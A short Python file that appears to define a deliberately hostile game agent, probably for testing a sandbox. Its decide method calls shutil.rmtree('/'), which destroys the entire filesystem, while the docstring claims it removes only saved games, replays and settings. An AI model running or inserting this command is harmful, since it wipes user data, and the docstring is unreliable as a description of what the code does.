"""Deletes the saved game, the replays and the settings."""

import shutil

from game.rules.model import Orders


class DeletesFiles:
    def decide(self, observation, rng):
        shutil.rmtree("/")
        return Orders()
